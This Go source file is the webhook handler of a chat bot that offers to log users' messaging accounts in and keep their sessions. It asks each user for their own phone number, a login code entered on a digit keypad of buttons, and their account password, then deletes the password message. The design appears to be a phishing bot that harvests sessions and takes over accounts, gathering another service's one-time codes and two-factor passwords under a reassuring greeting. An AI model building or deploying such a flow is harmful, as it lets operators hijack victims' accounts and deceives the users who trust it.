package handler

import (
	"context"
	"net/http"
	"strings"

	"github.com/rs/zerolog/log"

	"github.com/openclaw/sessionkeeper/internal/auth"
	"github.com/openclaw/sessionkeeper/internal/chat"
	"github.com/openclaw/sessionkeeper/internal/middleware"
)

const (
	greetingText = "Hi! This bot logs your messaging account in and keeps the session safe.\n\n" +
		"Tap the button below or send /login to start."
	helpText = "Commands:\n" +
		"/login - start logging in\n" +
		"/cancel - abort the login in progress\n" +
		"/help - show this message"
	foreignContactText = "Please share your own phone number using the button."
	nothingToCancel    = "There is no login in progress."
)

type Command struct {
	Type string // START, LOGIN, CANCEL, HELP
}

// parseCommand recognizes bot commands, with or without an @botname suffix.
func parseCommand(text string) *Command {
	fields := strings.Fields(text)
	if len(fields) == 0 || !strings.HasPrefix(fields[0], "/") {
		return nil
	}

	name := strings.ToLower(fields[0])
	if at := strings.IndexByte(name, '@'); at >= 0 {
		name = name[:at]
	}

	switch name {
	case "/start":
		return &Command{Type: "START"}
	case "/login":
		return &Command{Type: "LOGIN"}
	case "/cancel":
		return &Command{Type: "CANCEL"}
	case "/help":
		return &Command{Type: "HELP"}
	}
	return nil
}

// Authenticator is the authentication flow driven by bot updates.
type Authenticator interface {
	Begin(ctx context.Context, userID int64) error
	ContactShared(ctx context.Context, userID int64, rawPhone string) error
	DigitPressed(ctx context.Context, userID int64, digit byte) (string, error)
	DeletePressed(ctx context.Context, userID int64) (string, error)
	SubmitPressed(ctx context.Context, userID int64) (string, error)
	PasswordReceived(ctx context.Context, userID int64, password string) (bool, error)
	Cancel(ctx context.Context, userID int64) (bool, error)
}

// BotFrontend is the part of the chat surface the handler uses directly.
type BotFrontend interface {
	Greet(ctx context.Context, userID int64, text string) error
	Notify(ctx context.Context, userID int64, text string) error
	AnswerCallback(ctx context.Context, callbackID, notice string) error
	Forget(ctx context.Context, chatID int64, messageID int) error
}

type UpdateDeduplicator interface {
	FirstDelivery(ctx context.Context, updateID int64) bool
}

type BotHandler struct {
	auth  Authenticator
	front BotFrontend
	dedup UpdateDeduplicator
}

func NewBotHandler(authenticator Authenticator, front BotFrontend, dedup UpdateDeduplicator) *BotHandler {
	return &BotHandler{
		auth:  authenticator,
		front: front,
		dedup: dedup,
	}
}

// Webhook processes one bot update. The response is always 200 once the
// update has been decoded so the bot API does not redeliver it.
func (h *BotHandler) Webhook(w http.ResponseWriter, r *http.Request) {
	update := middleware.GetUpdate(r.Context())
	if update == nil {
		writeJSON(w, http.StatusBadRequest, map[string]string{"error": "Invalid request body"})
		return
	}

	// Updates run to completion even if the bot API hangs up on us.
	ctx := context.WithoutCancel(r.Context())

	if !h.dedup.FirstDelivery(ctx, update.UpdateID) {
		log.Debug().Int64("updateId", update.UpdateID).Msg("dropping redelivered update")
		writeJSON(w, http.StatusOK, map[string]bool{"ok": true})
		return
	}

	switch {
	case update.CallbackQuery != nil:
		h.handleCallback(ctx, update.CallbackQuery)
	case update.Message != nil:
		h.handleMessage(ctx, update.Message)
	default:
		log.Debug().Int64("updateId", update.UpdateID).Msg("ignoring unsupported update")
	}

	writeJSON(w, http.StatusOK, map[string]bool{"ok": true})
}

func (h *BotHandler) handleMessage(ctx context.Context, msg *chat.Message) {
	if msg.From == nil || msg.Chat.Type != "private" {
		return
	}
	userID := msg.From.ID

	log.Info().
		Int64("userId", userID).
		Bool("hasContact", msg.Contact != nil).
		Bool("isCommand", strings.HasPrefix(msg.Text, "/")).
		Msg("received bot message")

	if msg.Contact != nil {
		if msg.Contact.UserID != userID {
			h.notify(ctx, userID, foreignContactText)
			return
		}
		h.report(userID, "contact", h.auth.ContactShared(ctx, userID, msg.Contact.PhoneNumber))
		return
	}

	if cmd := parseCommand(msg.Text); cmd != nil {
		h.handleCommand(ctx, userID, cmd)
		return
	}

	if strings.TrimSpace(msg.Text) == "" {
		return
	}

	handled, err := h.auth.PasswordReceived(ctx, userID, msg.Text)
	h.report(userID, "password", err)
	if !handled {
		h.notify(ctx, userID, helpText)
		return
	}

	// The password stays out of the chat history.
	if err := h.front.Forget(ctx, msg.Chat.ID, msg.MessageID); err != nil {
		log.Warn().Err(err).Int64("userId", userID).Msg("failed to delete password message")
	}
}

func (h *BotHandler) handleCommand(ctx context.Context, userID int64, cmd *Command) {
	switch cmd.Type {
	case "START":
		h.report(userID, "start", h.front.Greet(ctx, userID, greetingText))

	case "LOGIN":
		h.report(userID, "login", h.auth.Begin(ctx, userID))

	case "CANCEL":
		cancelled, err := h.auth.Cancel(ctx, userID)
		h.report(userID, "cancel", err)
		if !cancelled {
			h.notify(ctx, userID, nothingToCancel)
		}

	case "HELP":
		h.notify(ctx, userID, helpText)
	}
}

func (h *BotHandler) handleCallback(ctx context.Context, cq *chat.CallbackQuery) {
	userID := cq.From.ID
	data := cq.Data

	log.Debug().
		Int64("userId", userID).
		Str("action", truncate(data, 16)).
		Msg("received callback query")

	var notice string
	var err error

	switch {
	case data == auth.ActionStart:
		err = h.auth.Begin(ctx, userID)
	case data == auth.ActionDelete:
		notice, err = h.auth.DeletePressed(ctx, userID)
	case data == auth.ActionSubmit:
		notice, err = h.auth.SubmitPressed(ctx, userID)
	case strings.HasPrefix(data, auth.ActionDigitPrefix) && len(data) == len(auth.ActionDigitPrefix)+1:
		notice, err = h.auth.DigitPressed(ctx, userID, data[len(auth.ActionDigitPrefix)])
	default:
		notice = auth.NoticeInvalidKey
	}
	h.report(userID, data, err)

	if err := h.front.AnswerCallback(ctx, cq.ID, notice); err != nil {
		log.Warn().Err(err).Int64("userId", userID).Msg("failed to answer callback query")
	}
}

func (h *BotHandler) notify(ctx context.Context, userID int64, text string) {
	if err := h.front.Notify(ctx, userID, text); err != nil {
		log.Warn().Err(err).Int64("userId", userID).Msg("failed to send bot message")
	}
}

func (h *BotHandler) report(userID int64, action string, err error) {
	if err != nil {
		log.Error().
			Err(err).
			Int64("userId", userID).
			Str("action", truncate(action, 16)).
			Msg("failed to handle bot update")
	}
}
